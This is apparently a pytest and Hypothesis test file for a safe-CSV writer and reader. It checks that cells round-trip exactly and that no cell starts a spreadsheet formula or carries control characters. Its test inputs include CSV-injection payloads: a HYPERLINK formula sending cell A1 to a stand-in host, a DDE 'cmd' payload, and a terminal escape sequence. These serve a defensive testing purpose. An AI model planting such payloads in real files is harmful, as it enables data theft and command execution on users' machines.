"""Text from people on its way out: CSV cells that no spreadsheet runs and that read back exactly, and one check of
the characters no name may hold."""

from __future__ import annotations

import dataclasses
import math

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from yacht_env.safe_text import csv_text, escaped_controls, is_unsafe, read_csv_text, unsafe_character

ISSUE_NAMES = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "#ann",
    "r&c %_#xy",
    "'quoted",
    "''",
    "NA",
    "123",
    "",
    'a "b", c',
]
SAFE_TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs")).filter(lambda c: not is_unsafe(c)), max_size=40)
NUMBERS = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False) | st.none()


@given(st.lists(st.tuples(SAFE_TEXT, NUMBERS, SAFE_TEXT), max_size=8), st.lists(st.text(max_size=30), max_size=3))
@example([(name, 1, "x") for name in ISSUE_NAMES], ["# a comment that starts like one", "line\nbreak"])
def test_every_cell_reads_back_exactly(rows, comments):
    text = csv_text(["name", "n", "band"], rows, comments)
    read = read_csv_text(text)
    assert read.header == ["name", "n", "band"]
    assert [(r["name"], r["n"], r["band"]) for r in read.rows] == rows
    assert all(type(r["n"]) is type(n) for r, (_, n, _) in zip(read.rows, rows))
    assert read.comments == [escaped_controls(" ".join(c.split())) for c in comments]


@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
@example(["\tTAB", "\rCR", "=1+1", "ann\x1b]0;owned\x07", "cr\rname", "a\nb", "\u202eevil", "\ud800"])
def test_no_cell_starts_a_formula_drives_a_terminal_or_spans_lines(names):
    text = csv_text(["name"], [[name] for name in names])
    lines = text.splitlines()
    assert len(lines) == len(names) + 1 and text.endswith("\n")
    assert not any(is_unsafe(char) for char in text.replace("\n", ""))
    text.encode("utf-8")  # a lone surrogate would stop the write
    for line, name in zip(lines[1:], names):
        assert line.startswith('"') and line.endswith('"')  # a quoted cell: a # in it starts no comment
        assert line[1] not in "=+-@\t\r"  # what a spreadsheet would run
        assert read_csv_text(text).rows[names.index(name)]["name"] == escaped_controls(name)


def test_pandas_reads_the_rows_the_header_comments_and_the_hashes_in_names():
    pandas = pytest.importorskip("pandas")
    import io

    names = ["#ann", "r&c %_#xy", "plain"]
    frame = pandas.read_csv(io.StringIO(csv_text(["name", "x"], [[n, 1.5] for n in names], ["title # here"])), comment="#")
    assert frame["name"].tolist() == names and frame["x"].tolist() == [1.5] * 3


def test_numbers_keep_their_kind_and_non_finite_floats_survive():
    read = read_csv_text(csv_text(["a", "b", "c", "d"], [[1, 2.0, float("inf"), float("nan")]])).rows[0]
    assert (read["a"], type(read["a"]), read["b"], type(read["b"]), read["c"]) == (1, int, 2.0, float, math.inf)
    assert math.isnan(read["d"])


def test_a_line_the_writer_never_writes_is_refused_naming_it():
    with pytest.raises(ValueError, match="line 2: 'abc' is neither a number nor quoted text"):
        read_csv_text('"name"\nabc\n')
    with pytest.raises(ValueError, match="^line 2: a cell runs on after its closing quote at character 4$"):
        read_csv_text('"name"\n"a"b\n')
    with pytest.raises(ValueError, match="^line 3: a cell runs on after its closing quote at character 6$"):
        read_csv_text('"name","n"\n"a",1\n"b",2"c"\n')
    with pytest.raises(ValueError, match="^line 2: a cell runs on after its closing quote at character 4$"):
        read_csv_text('"name"\n"a" \n')  # a space sorts before the comma


def test_a_long_cell_that_is_not_a_number_is_named_by_its_first_40_characters():
    with pytest.raises(ValueError) as error:
        read_csv_text('"name"\n' + "x" * 39 + "yz\n")
    assert str(error.value) == f"line 2: {'x' * 39 + 'y'!r} is neither a number nor quoted text"


def test_what_is_read_cannot_be_changed_in_place():
    read = read_csv_text('"name"\n"a"\n')
    with pytest.raises(dataclasses.FrozenInstanceError):
        read.header = ["other"]


def test_a_comment_is_read_after_its_hash_and_one_space_if_it_has_one():
    comments = read_csv_text('#no space\n# one space\n#  two spaces\n#\n"h"\n').comments
    assert comments == ["no space", "one space", " two spaces", ""]


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        ('"a"\n', "row 2: 1 cells under a header of 2"),
        ('"a",1\n"b"\n', "row 3: 1 cells under a header of 2"),
        ('"a",1,2\n', "row 2: 3 cells under a header of 2"),
        ('"a",1\n"b",2,3\n', "row 3: 3 cells under a header of 2"),
    ],
)
def test_every_row_must_have_as_many_cells_as_the_header(rows, message):
    with pytest.raises(ValueError, match=f"^{message}$"):
        read_csv_text('"name","n"\n' + rows)


@pytest.mark.parametrize(
    "text, problem",
    [
        ("ann", None),
        ("é 😀 ß", None),
        ("a\x1bb", "'\\x1b' is a control character"),
        ("a\x00", "'\\x00' is a control character"),
        ("\x7f", "'\\x7f' is a control character"),
        ("\x9b", "'\\x9b' is a control character"),
        ("a\u202eb", "'\\u202e' is a bidirectional control"),
        ("a\udcffb", "'\\udcff' is a lone surrogate"),
    ],
)
def test_the_one_check_of_a_name_s_characters(text, problem):
    assert unsafe_character(text) == problem
